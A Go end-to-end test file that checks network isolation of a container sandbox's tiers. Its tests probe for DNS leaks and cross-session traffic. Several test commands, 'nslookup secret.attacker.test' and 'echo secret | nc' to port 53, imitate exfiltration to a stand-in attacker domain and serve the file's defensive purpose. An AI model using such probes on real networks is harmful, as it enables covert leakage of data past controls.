package e2e_test

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
)

// A closed tier asks nobody, whichever resolver the engine's host has: one of its own on
// loopback, which the engine itself would ask for a container, or another host.
func TestAttackT31_BugNW01_NoLookUpLeavesAClosedTier(t *testing.T) {
	t.Parallel()
	e := privateEngine(t, "tiers-dns")
	w := surround(t, e)
	w.resolve(w.engine, "127.0.0.1")
	_, a := e.serve(t)
	file := e.resolvConf()
	for _, resolver := range []string{w.resolver, "127.0.0.1"} {
		if err := os.WriteFile(file, []byte("nameserver "+resolver+"\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		w.forget()
		egress := a.session(args{"network": "egress"})
		a.exec(egress, "nslookup control.attacker.test")
		if len(w.lookups(resolver+" control")) == 0 {
			t.Errorf("resolver %s: the control: egress does not reach it either", resolver)
		}
		for _, tier := range []string{"internal", "none"} {
			s := a.session(args{"network": tier})
			x := a.exec(s, `for ask in "" 127.0.0.11 `+w.resolver+` 127.0.0.1; do
				timeout 3 nslookup secret.attacker.test $ask &
				timeout 3 nslookup -type=txt secret.attacker.test $ask &
			done
			for server in 127.0.0.11 `+w.resolver+`; do echo secret | nc -w 2 $server 53 & done
			wait`)
			if !x.exited(0) {
				t.Errorf("%s: %v", tier, x)
			}
		}
		if asked, reached := w.lookups("secret"), w.reached(); len(asked) != 0 || len(reached) != 0 {
			t.Errorf("resolver %s: asked for %v, reached %v", resolver, asked, reached)
		}
	}
}

// box is a session's place on the engine's host.
type box struct {
	ns, mac   string   // its network namespace and its hardware address
	addresses []string // IPv6 ones in brackets
}

func (e *ownEngine) box(t *testing.T, session string) box {
	t.Helper()
	found, err := e.api.ContainerList(t.Context(), container.ListOptions{Filters: filters.NewArgs(filters.Arg("label", "caisson.id="+session))})
	if err != nil || len(found) != 1 {
		t.Fatalf("%d containers of %s: %v", len(found), session, err)
	}
	c, err := e.api.ContainerInspect(t.Context(), found[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	b := box{ns: fmt.Sprintf("/proc/%d/ns/net", c.State.Pid)}
	for _, n := range c.NetworkSettings.Networks {
		b.mac, b.addresses = n.MacAddress, append(b.addresses, n.IPAddress)
		if n.GlobalIPv6Address != "" {
			b.addresses = append(b.addresses, "["+n.GlobalIPv6Address+"]")
		}
	}
	return b
}

// watch counts in a session's namespace what comes from another, by its hardware address
// where it comes over the bridge and by its own where it comes through the host; and
// everything, so as to see that it counts.
func (w *world) watch(to, from box) {
	w.t.Helper()
	for _, tool := range []string{"iptables", "ip6tables"} {
		rule := tool + " -w -t raw -A PREROUTING "
		w.in(to.ns, rule+"-m mac --mac-source "+from.mac+" -m comment --comment arrived")
		for _, address := range from.addresses {
			if strings.HasPrefix(address, "[") == (tool == "ip6tables") {
				w.in(to.ns, rule+"-i eth0 -s "+strings.Trim(address, "[]")+" -m comment --comment arrived")
			}
		}
		w.in(to.ns, rule+"-m comment --comment anything")
	}
}

// Not one packet of a session comes to another of its tier, whoever owns them: by the
// engine's own isolation, and over IPv6, which an old engine does not isolate, by the
// deployment's firewall.
func TestAttackT33_AttackT25_D22_SessionsDoNotReachOneAnother(t *testing.T) {
	t.Parallel()
	e := privateEngine(t, "tiers-apart")
	e.doubleStack(t)
	w := surround(t, e)
	_, a := e.serve(t)
	for _, tier := range []string{"internal", "egress"} {
		session := a.dialing(tier)
		from, to := e.box(t, session), e.box(t, a.session(args{"network": tier}))
		w.watch(to, from)
		targets := []string{"udp://255.255.255.255:67", "udp://224.0.0.251:5353", "udp://[ff02::fb%eth0]:5353", "udp://[ff02::1%eth0]:9"}
		for _, address := range to.addresses {
			for _, port := range []int{22, 53, 80, 8080} {
				targets = append(targets, "tcp://"+address+":"+strconv.Itoa(port), "udp://"+address+":"+strconv.Itoa(port))
			}
			if !strings.HasPrefix(address, "[") {
				targets = append(targets, "udp://"+address[:strings.LastIndex(address, ".")]+".255:137")
			}
		}
		arrived := func(form string) int {
			for _, tool := range []string{"iptables", "ip6tables"} {
				w.in(to.ns, tool+" -w -t raw -Z PREROUTING")
			}
			same(t, tier+" "+form, a.dial(session, targets...), nil)
			return counted(t, to.ns, "arrived")
		}
		if n := arrived("without a firewall"); tier == "internal" && n != 0 || tier == "egress" && n == 0 && e.old(t) {
			t.Errorf("%s: %d packets arrived without a firewall", tier, n)
		}
		for _, form := range firewallForms {
			e.firewall(t, "load", "FORM="+form)
			if n := arrived(form); n != 0 {
				t.Errorf("%s, %s: %d packets arrived", tier, form, n)
			}
			e.firewall(t, "remove", "FORM="+form)
		}
		// The host may have no address of its own there.
		w.in(w.engine, "ip route replace "+to.addresses[0]+" dev "+map[string]string{"internal": "tai-sbx-int", "egress": "tai-sbx-egress"}[tier])
		out(t, "nsenter", "--net="+w.engine, "bash", "-c", "echo x >/dev/udp/"+to.addresses[0]+"/9")
		if counted(t, to.ns, "anything") == 0 {
			t.Errorf("%s: the control: a packet of the host's is not counted", tier)
		}
	}
}

// old tells of an engine whose isolation leaves IPv6 out.
func (e *ownEngine) old(t *testing.T) bool {
	t.Helper()
	version, err := e.api.ServerVersion(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return strings.HasPrefix(version.Version, "20.")
}
